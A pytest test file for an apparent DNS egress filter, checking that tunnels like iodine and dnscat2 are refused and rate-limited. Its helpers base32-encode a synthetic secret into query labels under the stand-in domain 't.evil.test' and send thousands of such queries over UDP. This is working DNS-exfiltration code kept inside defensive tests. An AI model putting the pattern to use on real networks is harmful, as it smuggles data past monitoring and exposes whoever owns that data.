"""What tunnel tools do to a nameserver: nothing of it gets anywhere, and the log stays readable.

iodine, dnscat2 and their like carry data up in labels and down in TXT, NULL, CNAME, MX or A records. A
recording upstream stands where the tunnel's own server would be asked through.
"""

from __future__ import annotations

import base64
import itertools
import random
from collections.abc import Iterator
from pathlib import Path

import pytest
from dnskit import Kit, allow, over_udp, query, read, sandbox, standalone
from fakedns import fake_dns, reply

from egress.dnslimits import DNS_LIMITS
from egress.synthetic import SyntheticNames

pytestmark = pytest.mark.scenario

QUERIES = 5000
SECRET = random.Random(7).randbytes(QUERIES * 100)
TYPES = itertools.cycle(["NULL", "TXT", "CNAME", "MX", "SRV", "A", "AAAA", "HTTPS"])


def chunks(parent: str) -> Iterator[str]:
    """A file, a hundred bytes to a name, as tunnels write it."""
    for at in range(0, len(SECRET), 100):
        text = base64.b32encode(SECRET[at : at + 100]).decode().rstrip("=").lower()
        yield ".".join([*(text[cut : cut + 50] for cut in range(0, len(text), 50)), parent])


async def send(kit: Kit, parent: str) -> list[str]:
    """The whole file over real sockets; the code of each answer."""
    address, codes = kit.listen(), []
    packets = [query(name, next(TYPES), edns=False, ident=n % 65536) for n, name in enumerate(chunks(parent))]
    for at in range(0, len(packets), 50):
        codes += [read(answer).rcode for answer in await over_udp(address, *packets[at : at + 50])]
    assert len(codes) == QUERIES
    return codes


async def test_a_tunnel_below_a_denied_parent_sends_nothing_upstream(tmp_path: Path) -> None:
    async with fake_dns() as up, standalone(tmp_path, allow("good.test"), upstream=up) as kit:
        codes = await send(kit, "t.evil.test")
        assert set(codes) == {"REFUSED"}
    assert up.queries == up.tcp_queries == []
    hosts = kit.hosts(verdict="deny")
    assert len(hosts) == DNS_LIMITS.denied_names + 1
    assert hosts[-1] == "*.evil.test"


async def test_a_tunnel_in_a_sandbox_gets_no_answer_it_could_use_and_no_address_beyond_its_measure(
    tmp_path: Path,
) -> None:
    synthetic = SyntheticNames()
    async with sandbox(tmp_path, allow("good.test"), synthetic=synthetic) as kit:
        codes = await send(kit, "t.evil.test")
        assert codes.count("REFUSED") == QUERIES - DNS_LIMITS.denied_names
        assert (await kit.ask("good.test")).addresses != []
        assert len(synthetic) < DNS_LIMITS.denied_names
    assert len(kit.hosts()) == DNS_LIMITS.denied_names + 1


async def test_a_tunnel_below_an_allowed_wildcard_is_cut_off(tmp_path: Path) -> None:
    async with (
        fake_dns(lambda message, _: [reply(message)]) as up,
        standalone(tmp_path, allow("*.wild.test"), upstream=up) as kit,
    ):
        codes = await send(kit, "t.wild.test")
        assert codes.count("REFUSED") > QUERIES / 5
    assert len({str(message.q.qname) for message in up.queries}) == DNS_LIMITS.wildcard_names
    assert kit.hosts(verdict="deny") == ["*.wild.test"]


async def test_a_tunnel_over_many_parents_is_limited_as_a_whole(tmp_path: Path) -> None:
    async with fake_dns() as up, standalone(tmp_path, allow("good.test"), upstream=up) as kit:
        for number in range(20_000):
            kit.put(query(f"x{number % 7}.evil{number}.test", ident=0))
    assert up.queries == []
    assert len(kit.hosts()) == DNS_LIMITS.parents + DNS_LIMITS.denied_names + 1
    assert kit.hosts()[-1] == "*"
